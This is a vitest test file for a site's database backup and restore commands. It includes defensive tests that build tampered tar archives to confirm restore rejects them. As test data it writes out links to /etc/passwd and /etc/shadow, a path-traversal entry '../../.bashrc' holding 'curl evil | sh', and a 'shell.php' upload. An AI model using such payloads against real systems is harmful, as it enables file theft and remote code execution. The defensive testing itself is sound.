import { count } from "drizzle-orm";
import { execFileSync } from "node:child_process";
import {
  existsSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
  mkdirSync,
} from "node:fs";
import { gunzipSync } from "node:zlib";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { createTestDatabase, TEST_DATABASE_KINDS } from "../../../tests/support/test-database";
import { createUser } from "@/server/auth/users";
import { createLead } from "@/server/leads/store";
import { createBackup, InvalidBackupError, restoreBackup } from "./backup";
import { serveBackupRequests } from "./backup-requests";
import { openDatabase, type Connection } from "./client";
import { runMigrations } from "./migrate";
import { dailySecrets, leads, posts, users } from "./schema";
import { seedDemoContent } from "./seed";

const root = mkdtempSync(path.join(os.tmpdir(), "asas-backup-test-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

async function contents(connection: Connection) {
  const { db } = connection;
  return {
    posts: (await db.select({ slug: posts.slug, title: posts.title }).from(posts).orderBy(posts.slug)).map(
      (row) => `${row.slug}:${row.title}`,
    ),
    leads: (await db.select({ email: leads.email, message: leads.message }).from(leads)).map(
      (row) => `${row.email}:${row.message}`,
    ),
    users: (await db.select({ email: users.email, role: users.role, hash: users.passwordHash }).from(users)).map(
      (row) => `${row.email}:${row.role}:${row.hash}`,
    ),
  };
}

async function fill(connection: Connection, dataDir: string, name: string) {
  await seedDemoContent(connection.db);
  await createUser(connection.db, {
    name: "Admin",
    email: `admin@${name}.test`,
    password: "Correct-Horse-9",
    role: "admin",
  });
  await createUser(connection.db, {
    name: "Ed",
    email: `ed@${name}.test`,
    password: "Battery-Staple-9",
    role: "editor",
  });
  await createLead(
    connection.db,
    {
      name: "Lead",
      email: `lead@${name}.test`,
      phone: "",
      company: "",
      message: `Please call us about ${name}`,
      country: "SA",
      service: "other",
      consent: true,
    } as Parameters<typeof createLead>[1],
    { locale: "en", sourcePage: "/en/contact", userAgent: "test", notify: false },
  );
  mkdirSync(path.join(dataDir, "uploads"), { recursive: true });
  writeFileSync(path.join(dataDir, "uploads", "00000000-0000-4000-8000-000000000001.webp"), `image of ${name}`);
  // Today's analytics salt, as the site keeps it (settings.ts dailySecret).
  await connection.db.insert(dailySecrets).values({ key: "analytics-salt:2026-11-30", value: `${SALT}-${name}` });
}

const SALT = "THE-DAY-S-SALT-b1e6c0d2";

/** A backup's members, extracted into a folder of their own. */
function unpacked(file: string): string {
  const folder = mkdtempSync(path.join(root, "unpacked-"));
  execFileSync("tar", ["-xf", file, "-C", folder]);
  return folder;
}

/** What an owner-only file must be: no one else may read a backup (it holds leads and password hashes). */
const modeOf = (file: string) => statSync(file).mode & 0o777;

async function site(name: string) {
  const dataDir = path.join(root, name);
  const connection = await openDatabase({ kind: "pglite", dataDir });
  await runMigrations(connection);
  await fill(connection, dataDir, name);
  return { dataDir, connection };
}

async function restoredInto(file: string, name: string) {
  const dataDir = path.join(root, name);
  await restoreBackup({ kind: "pglite", dataDir }, dataDir, file);
  const connection = await openDatabase({ kind: "pglite", dataDir });
  try {
    return {
      dataDir,
      found: await contents(connection),
      salts: await connection.db.select({ key: dailySecrets.key }).from(dailySecrets),
    };
  } finally {
    await connection.close();
  }
}

describe("db:backup and db:restore with the embedded database", () => {
  it("back up a running site and restore every post, lead, account and upload into an empty folder", async () => {
    const running = await site("running");
    const expected = await contents(running.connection);
    expect(expected.posts.length).toBeGreaterThan(10);
    // This process stands for the server: it holds the database (and its lock) and answers SIGUSR2.
    const stop = serveBackupRequests(running.dataDir, async () => running.connection);
    try {
      const file = path.join(root, "backups", "live.tar");
      const manifest = await createBackup({ kind: "pglite", dataDir: running.dataDir }, running.dataDir, file);
      expect(manifest).toMatchObject({ kind: "pglite", uploads: 1 });
      expect(modeOf(file)).toBe(0o600);
      // The database inside, unpacked as it is (PGlite's own dump: its files), holds no salt.
      const database = gunzipSync(readFileSync(path.join(unpacked(file), "database.tar.gz")));
      expect(database.includes(SALT)).toBe(false);
      expect(database.includes("Please call us about running")).toBe(true);
      // The site kept running meanwhile.
      expect((await running.connection.db.select({ total: count() }).from(posts))[0]?.total).toBe(
        expected.posts.length,
      );

      const restored = await restoredInto(file, "restored-live");
      expect(restored.found).toEqual(expected);
      expect(restored.salts).toEqual([]);
      expect(
        readFileSync(path.join(restored.dataDir, "uploads", "00000000-0000-4000-8000-000000000001.webp"), "utf8"),
      ).toBe("image of running");
      expect(readdirSync(path.join(running.dataDir, "backup-requests"))).toEqual([]);
    } finally {
      stop();
      await running.connection.close();
    }
  });

  it("back up a stopped site directly, and refuse to restore over an existing database", async () => {
    const stopped = await site("stopped");
    const expected = await contents(stopped.connection);
    await stopped.connection.close();
    const file = path.join(root, "backups", "stopped.tar");
    await createBackup({ kind: "pglite", dataDir: stopped.dataDir }, stopped.dataDir, file);
    expect(modeOf(file)).toBe(0o600);
    const restored = await restoredInto(file, "restored-stopped");
    expect(restored.found).toEqual(expected);
    expect(restored.salts).toEqual([]);
    await expect(restoreBackup({ kind: "pglite", dataDir: stopped.dataDir }, stopped.dataDir, file)).rejects.toThrow(
      /already holds a database/,
    );
  });
});

/** A tar archive written member by member (ustar headers), to make the backups no db:backup makes. */
type Member = { name: string; type?: "0" | "1" | "2" | "3" | "5"; content?: Buffer | string; link?: string };
function tarOf(members: Member[]): Buffer {
  const blocks: Buffer[] = [];
  for (const member of members) {
    const content = Buffer.from(member.content ?? "");
    const header = Buffer.alloc(512);
    header.write(member.name, 0, 100, "utf8");
    header.write("0000644\0", 100);
    header.write("0000000\0", 108);
    header.write("0000000\0", 116);
    header.write(`${content.length.toString(8).padStart(11, "0")}\0`, 124);
    header.write("00000000000\0", 136);
    header.write(member.type ?? "0", 156);
    header.write(member.link ?? "", 157, 100, "utf8");
    header.write("ustar\0" + "00", 257);
    header.write("        ", 148);
    let sum = 0;
    for (const byte of header) sum += byte;
    header.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
    blocks.push(header, content, Buffer.alloc((512 - (content.length % 512)) % 512));
  }
  return Buffer.concat([...blocks, Buffer.alloc(1024)]);
}

describe("db:restore of a backup no db:backup made", () => {
  const image = "00000000-0000-4000-8000-000000000001.webp";
  let genuine: string;
  let manifest: string;
  let database: Buffer;

  it("restores the genuine backup, made with GNU tar (so the checks read its archives as they are)", async () => {
    const source = await site("genuine-source");
    await source.connection.close();
    genuine = path.join(root, "backups", "genuine.tar");
    await createBackup({ kind: "pglite", dataDir: source.dataDir }, source.dataDir, genuine);
    const folder = unpacked(genuine);
    manifest = readFileSync(path.join(folder, "manifest.json"), "utf8");
    database = readFileSync(path.join(folder, "database.tar.gz"));
    const restored = await restoredInto(genuine, "genuine-restored");
    expect(readdirSync(path.join(restored.dataDir, "uploads"))).toEqual([image]);
  });

  const tampered = (name: string, members: Member[]) => {
    const file = path.join(root, "backups", `${name}.tar`);
    writeFileSync(file, tarOf(members));
    return file;
  };
  const base = () => [
    { name: "manifest.json", content: manifest },
    { name: "database.tar.gz", content: database },
    { name: "uploads/", type: "5" as const },
  ];

  it.each([
    [
      "a symbolic link to /etc/passwd named as an upload",
      [{ name: `uploads/${image}`, type: "2" as const, link: "/etc/passwd" }],
      `uploads/${image}: a symbolic link to /etc/passwd`,
    ],
    [
      "a hard link to a file outside",
      [{ name: `uploads/${image}`, type: "1" as const, link: "/etc/shadow" }],
      `uploads/${image}: a hard link to /etc/shadow`,
    ],
    [
      "a name outside the uploads folder",
      [
        { name: `uploads/${image}`, content: "image" },
        { name: "uploads/../../.bashrc", content: "curl evil | sh" },
      ],
      "uploads/../../.bashrc: not an uploaded image's name",
    ],
    [
      "a file named as no upload is",
      [{ name: "uploads/shell.php", content: "<?php" }],
      "uploads/shell.php: not an uploaded image's name",
    ],
    ["a device", [{ name: `uploads/${image}`, type: "3" as const }], `uploads/${image}: a special file (tar type "3")`],
  ])("refuses %s, saying what it found, before anything is changed", async (name, extra, found) => {
    const file = tampered(name.replace(/\W+/g, "-"), [...base(), ...extra]);
    const target = path.join(root, `target-${name.replace(/\W+/g, "-")}`);
    const error = await restoreBackup({ kind: "pglite", dataDir: target }, target, file).catch(
      (failure: unknown) => failure,
    );
    expect(error).toBeInstanceOf(InvalidBackupError);
    expect(String(error)).toContain("is not a backup of this site, so nothing was restored");
    expect(String(error)).toContain(found);
    // Nothing was written: no database folder, no uploads.
    expect(existsSync(path.join(target, "pglite"))).toBe(false);
    expect(existsSync(path.join(target, "uploads"))).toBe(false);
  });

  it("refuses a manifest that does not match the archive, or an archive that is not a backup", async () => {
    const target = path.join(root, "target-manifest");
    const counted = tampered("miscounted", [...base()]);
    await expect(restoreBackup({ kind: "pglite", dataDir: target }, target, counted)).rejects.toThrow(
      "the manifest counts 1 uploaded images, the archive holds 0",
    );
    const renamed = tampered("renamed-database", [
      { name: "manifest.json", content: JSON.stringify({ ...JSON.parse(manifest), database: "../../etc/passwd" }) },
      { name: "database.tar.gz", content: database },
    ]);
    await expect(restoreBackup({ kind: "pglite", dataDir: target }, target, renamed)).rejects.toThrow(
      'its manifest names the database "../../etc/passwd"',
    );
    const notTar = path.join(root, "backups", "not-a-tar.tar");
    writeFileSync(notTar, "just some text, not an archive".repeat(40));
    await expect(restoreBackup({ kind: "pglite", dataDir: target }, target, notTar)).rejects.toThrow(
      InvalidBackupError,
    );
    expect(existsSync(target)).toBe(false);
  });

  it("leaves out of a backup what no restore would take (a link or a stray file in uploads)", async () => {
    const source = await site("stray-source");
    await source.connection.close();
    symlinkSync("/etc/passwd", path.join(source.dataDir, "uploads", "00000000-0000-4000-8000-0000000000ff.webp"));
    writeFileSync(path.join(source.dataDir, "uploads", "notes.txt"), "not an image");
    const file = path.join(root, "backups", "stray.tar");
    expect((await createBackup({ kind: "pglite", dataDir: source.dataDir }, source.dataDir, file)).uploads).toBe(1);
    const restored = await restoredInto(file, "stray-restored");
    expect(readdirSync(path.join(restored.dataDir, "uploads"))).toEqual([image]);
  });
});

describe.runIf(TEST_DATABASE_KINDS.includes("postgres"))(
  "db:backup and db:restore with PostgreSQL (pg_dump, pg_restore)",
  () => {
    it("restore every post, lead, account and upload into an empty database and data folder", async () => {
      const source = await createTestDatabase("postgres");
      const target = await createTestDatabase("postgres");
      try {
        const sourceDir = path.join(root, "pg-source");
        await fill(source.connection, sourceDir, "pg");
        const expected = await contents(source.connection);
        const file = path.join(root, "backups", "postgres.tar");
        await createBackup({ kind: "postgres", url: source.url ?? "" }, sourceDir, file);
        expect(modeOf(file)).toBe(0o600);
        const data = execFileSync("pg_restore", [
          "--data-only",
          "--file",
          "-",
          path.join(unpacked(file), "database.pgdump"),
        ]);
        expect(data.includes(SALT)).toBe(false);
        expect(data.includes("Please call us about pg")).toBe(true);
        const targetDir = path.join(root, "pg-target");
        await restoreBackup({ kind: "postgres", url: target.url ?? "" }, targetDir, file);
        expect(await contents(target.connection)).toEqual(expected);
        expect(await target.db.select().from(dailySecrets)).toEqual([]);
        expect(readdirSync(path.join(targetDir, "uploads"))).toEqual(["00000000-0000-4000-8000-000000000001.webp"]);
      } finally {
        await Promise.all([source.close(), target.close()]);
      }
    });
  },
);
